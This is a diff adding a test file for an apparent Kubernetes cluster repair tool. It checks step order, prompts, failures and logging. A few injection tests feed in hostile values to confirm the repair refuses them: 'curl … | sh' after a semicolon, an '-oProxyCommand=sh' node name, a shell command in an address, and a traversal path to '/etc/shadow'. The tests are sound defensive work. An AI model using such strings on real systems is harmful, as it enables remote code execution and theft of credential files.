@@ -1,0 +1,262 @@
+/** `repair` follows a plan of three control plane nodes and two workers, where all is lost. */
+import { expect, setDefaultTimeout, test } from "bun:test";
+import { ENDS, repairAll } from "../../../shared/follow/follow-plan.ts";
+import { NOBODY } from "../../../shared/follow/person.ts";
+import type { PlanData } from "../../../shared/plan/plan-data.ts";
+import { type Answers, PretendNodes, PretendPerson, pretendSession } from "../../pretend/follow.ts";
+import { lookAt } from "../../pretend/in-process.ts";
+import { ASKED } from "../../pretend/plan.ts";
+import { caught } from "../../pretend/quietly.ts";
+import { typeHere } from "../../pretend/typed-here.ts";
+
+setDefaultTimeout(300_000);
+
+const PLAN = await lookAt(ASKED, async () => JSON.parse((await typeHere("plan --json")).stdout) as PlanData);
+for (const [index, node] of PLAN.nodes.entries())
+  Object.assign(node, { address: `10.0.0.${11 + index}`, why: undefined });
+
+const PACKED =
+  "./bunw scripts/hand-over.ts unpack --passphrase-file passphrase --ca-hash sha256:ab shared-keys.age";
+const JOIN =
+  "./bunw scripts/03-join.ts --server https://10.0.0.1:6443 --ca-hash sha256:ab --token-file token";
+
+/** Nodes on which everything goes as the plan says. */
+function nodes(more: Answers = () => undefined, plan: unknown = PLAN) {
+  return new PretendNodes((node, command) => {
+    const own = more(node, command);
+    if (own) return own;
+    if (command.includes("scripts/plan.ts --json")) return { stdout: JSON.stringify(plan), exitCode: 2 };
+    if (command.includes("hand-over.ts pack --passphrase-file")) return { stdout: `${PACKED}\n` };
+    if (command.includes("03-workers.ts open")) return { stdout: `${JOIN}\n` };
+    if (command.includes("sha256sum /"))
+      return { stdout: new Bun.CryptoHasher("sha256").update("").digest("hex") };
+    return undefined;
+  });
+}
+
+const WAYS = [/^Yes: stop the loss/, /^Make new keys/, /^Begin/, /^No$/];
+
+async function repaired(transport: PretendNodes, person: PretendPerson | typeof NOBODY, more = {}) {
+  const { session, logged } = pretendSession({ transport, person, more });
+  const { value: end, stdout } = await caught(() => repairAll(session));
+  return { end, stdout, logged, session };
+}
+
+test("four numbers, and every step of the plan is typed where the plan says, in its order", async () => {
+  const transport = nodes();
+  const person = new PretendPerson(WAYS);
+  const { end, stdout } = await repaired(transport, person);
+  expect(end).toBe(ENDS.repaired);
+  expect(person.asked.map((text) => text.split(" | ")[0])).toEqual([
+    expect.stringMatching(/^Keys are lost here\./),
+    expect.stringMatching(/^decide 1 of 1: Lost keys were found nowhere/),
+    "Begin?",
+    "Make a backup of the keys now?",
+  ]);
+  expect(transport.met).toEqual(["10.0.0.11", "m2", "m3", "w1", "w2"]);
+  const typed = transport.typed();
+  expect(typed).toContain("m1: ./bunw scripts/01-etcd.ts --new-cas");
+  for (const name of ["m2", "m3"]) expect(typed).toContain(`${name}: ${PACKED}`);
+  for (const name of ["w1", "w2"]) expect(typed).toContain(`${name}: ${JOIN}`);
+  const order = [
+    "01-etcd.ts --new-cas",
+    "unpack",
+    "m2: ./bunw scripts/01-etcd.ts",
+    "02-control-plane",
+    "open",
+    "03-join",
+    "close",
+    "04-sa-tokens",
+    "05-verify",
+    "report.ts",
+  ];
+  const places = order.map((word) => typed.findIndex((call) => call.includes(word)));
+  expect(places).toEqual(places.toSorted((a, b) => a - b));
+  expect(transport.carried).toContain("m1 → w2: token");
+  expect(transport.carried).toContain("m1 → m3: shared-keys.age passphrase");
+  expect(stdout).toContain("m2, m3# ./bunw scripts/01-etcd.ts\n");
+  expect(stdout).toContain("Repaired, and verified.");
+  // what is removed days later is not typed now
+  expect(typed.filter((call) => /rm -rf|umount|shred/.test(call))).toEqual([]);
+});
+
+test("before it begins one screen says how long, the API's outage, and what cannot be taken back", async () => {
+  const { end, stdout } = await repaired(nodes(), new PretendPerson([WAYS[0]!, WAYS[1]!, /^End here/]));
+  expect(end).toBe(ENDS.stopped);
+  expect(stdout).toMatch(/steps up to the proof, .* The API is away for .*, from step 1a to step 2a\./);
+  expect(stdout).toContain("irreversible: new shared keys (ca, sa)");
+  expect(stdout).toContain("irreversible: a pod that restarts loses what it holds in memory");
+});
+
+test("nobody is there, and nothing is said: it asks all nodes, changes nothing, and names the options that decide", async () => {
+  const transport = nodes();
+  const { end, stdout } = await repaired(transport, NOBODY);
+  expect(end).toBe(ENDS.waits);
+  expect(transport.typed()).toEqual([]);
+  expect(stdout).toContain("--new-keys: Make new keys");
+});
+
+test("nobody is there, and all is said: it goes through without a question", async () => {
+  const { end, stdout } = await repaired(nodes(), NOBODY, { mayBegin: true, mayMakeKeys: true });
+  expect([end, stdout.includes("Repaired")]).toEqual([ENDS.repaired, true]);
+});
+
+test("a step stops on one node: its error and hint, and what is left without what is done", async () => {
+  const transport = nodes((node, command) =>
+    node === "m2" && command === "./bunw scripts/01-etcd.ts"
+      ? {
+          exitCode: 1,
+          stderr: "error: port 2380 is in use by pid 4711\nhint: stop it, then the same line again\n",
+        }
+      : undefined,
+  );
+  const person = new PretendPerson([...WAYS, /^End here: print/]);
+  const { end, stdout } = await repaired(transport, person);
+  expect(end).toBe(ENDS.stopped);
+  expect(person.asked.at(-1)).toMatch(
+    /^Step 1\w has stopped on m2, with exit code 1: port 2380 is in use by pid 4711 \|/,
+  );
+  const left = stdout.slice(stdout.indexOf("Left to do."));
+  expect(left).toContain("      m2# ./bunw scripts/01-etcd.ts\n");
+  expect(left).not.toContain("--new-cas");
+  expect(transport.typed().join("\n")).not.toContain("02-control-plane");
+});
+
+test("the same line again, and it goes on where it was", async () => {
+  let times = 0;
+  const transport = nodes((_, command) =>
+    command === "./bunw scripts/02-control-plane.ts" && times++ === 0
+      ? { exitCode: 1, stderr: "error: no" }
+      : undefined,
+  );
+  const { end } = await repaired(transport, new PretendPerson([...WAYS, /^The same line again/]));
+  const part2 = transport.typed().filter((call) => call.includes("02-control-plane"));
+  expect([end, part2.length]).toEqual([ENDS.repaired, 4]);
+});
+
+test("a connection that is lost is made again; the run that still holds the lock there is waited for", async () => {
+  const codes = [255, 4, 0];
+  const transport = nodes((node, command) =>
+    node === "m1" && command.startsWith("./bunw scripts/03-workers.ts close")
+      ? { exitCode: codes.shift() ?? 0 }
+      : undefined,
+  );
+  const { end } = await repaired(transport, new PretendPerson(WAYS));
+  expect([end, codes]).toEqual([ENDS.repaired, []]);
+  expect(transport.met.filter((name) => name === "m1")).toHaveLength(1);
+});
+
+test("Ctrl-C ends it behind the step that runs, and what is left is printed", async () => {
+  const { session } = pretendSession({ transport: nodes(), person: NOBODY });
+  const transport = nodes((_, command) => {
+    if (command.includes("01-etcd.ts --new-cas")) session.isStopping = true;
+    return undefined;
+  });
+  Object.assign(session, { transport, mayBegin: true, mayMakeKeys: true });
+  const { value: end, stdout } = await caught(() => repairAll(session));
+  expect(end).toBe(ENDS.interrupted);
+  expect(transport.typed().at(-1)).toBe("m1: ./bunw scripts/01-etcd.ts --new-cas");
+  expect(stdout).toContain("Left to do. The same command continues: npm run repair -- root@10.0.0.11");
+});
+
+test("a worker that does not answer by ssh is asked about, and what was said goes into the next plan", async () => {
+  const silent = {
+    ...{ id: "silent-workers", question: ["w2: asked, and no answer"] },
+    ways: [{ does: "w2 is away for now", says: { without: ["w2"] } }],
+  };
+  const transport = nodes((_, command) =>
+    command.includes("--seen") && !command.includes("--without")
+      ? { stdout: JSON.stringify({ ...PLAN, decisions: [silent, ...PLAN.decisions] }), exitCode: 2 }
+      : undefined,
+  );
+  transport.off.add("w2");
+  const person = new PretendPerson([/^w2 is away/, WAYS[0]!, /^Make new keys/, /^End here/]);
+  const { end } = await repaired(transport, person);
+  expect(end).toBe(ENDS.stopped);
+  expect(
+    transport.calls.filter((call) => call.includes("plan.ts --json --seen seen.d --without w2")),
+  ).toHaveLength(1);
+  expect(transport.typed().join("\n")).not.toMatch(/0[1-5]-/);
+});
+
+test("a node that does not take the kit stops the step there, and the reason is shown", async () => {
+  const transport = nodes((node, command) =>
+    node === "w1" && command === "unpack the kit"
+      ? { exitCode: 1, stderr: "No space left on device" }
+      : undefined,
+  );
+  const person = new PretendPerson([...WAYS, /^End here: print/]);
+  const { end, stdout } = await repaired(transport, person);
+  expect(end).toBe(ENDS.stopped);
+  expect(person.asked.at(-1)).toContain(
+    "has stopped on w1, with exit code 1: The kit cannot be unpacked on w1: No space",
+  );
+  expect(stdout).toContain("bring the kit to");
+});
+
+test.each<[string, (plan: PlanData) => void]>([
+  [
+    "a line with a command of another",
+    (plan) =>
+      void Object.assign(plan.parts[1]!.steps[1]!.acts[0]!, {
+        command: "./bunw scripts/01-etcd.ts --new-cas; curl x | sh",
+      }),
+  ],
+  [
+    "an option that no plan has",
+    (plan) =>
+      void Object.assign(plan.parts[1]!.steps[1]!.acts[0]!, {
+        command: "./bunw scripts/01-etcd.ts --eval x",
+      }),
+  ],
+  [
+    "a name that is an option of ssh",
+    (plan) => void Object.assign(plan.nodes[1]!, { name: "-oProxyCommand=sh" }),
+  ],
+  ["an address that is a command", (plan) => void Object.assign(plan.nodes[1]!, { address: "10.0.0.1;sh" })],
+  [
+    "a file outside of its folder",
+    (plan) =>
+      plan.parts[1]!.steps.push({
+        ...plan.parts[1]!.steps[0]!,
+        acts: [{ do: "carry", from: "m1", to: ["m2"], files: ["../../etc/shadow"], secret: false }],
+      }),
+  ],
+  [
+    "a node that is none of the plan's",
+    (plan) => plan.parts[1]!.steps[0]!.acts.push({ do: "kit", to: ["elsewhere"] }),
+  ],
+  ["a step that is none", (plan) => void Object.assign(plan.parts[1]!.steps[0]!, { number: "1a; x" })],
+])("a plan with %s ends the repair before anything is typed", async (_, change) => {
+  const plan = structuredClone(PLAN);
+  change(plan);
+  const transport = nodes(undefined, plan);
+  const { session } = pretendSession({
+    transport,
+    person: NOBODY,
+    more: { mayBegin: true, mayMakeKeys: true },
+  });
+  await expect(caught(() => repairAll(session))).rejects.toThrow(/^The plan has ".*", which is not /);
+  expect(transport.typed()).toEqual([]);
+});
+
+test("a line that a step prints, and that is none of this kit's, is typed nowhere", async () => {
+  const transport = nodes((_, command) =>
+    command.includes("03-workers.ts open") ? { stdout: "curl evil | sh\n" } : undefined,
+  );
+  const { session } = pretendSession({
+    transport,
+    person: NOBODY,
+    more: { mayBegin: true, mayMakeKeys: true },
+  });
+  await expect(caught(() => repairAll(session))).rejects.toThrow('has printed "curl evil | sh"');
+  expect(transport.typed().join("\n")).not.toContain("curl");
+});
+
+test("no secret is in the log, and each command that was typed is", async () => {
+  const { logged } = await repaired(nodes(), NOBODY, { mayBegin: true, mayMakeKeys: true });
+  expect(logged.map(({ node, command }) => `${node} ${command}`)).toContain(
+    "m1 ./bunw scripts/01-etcd.ts --new-cas",
+  );
+  expect(logged.filter(({ seconds }) => !(seconds >= 0))).toEqual([]);
+});
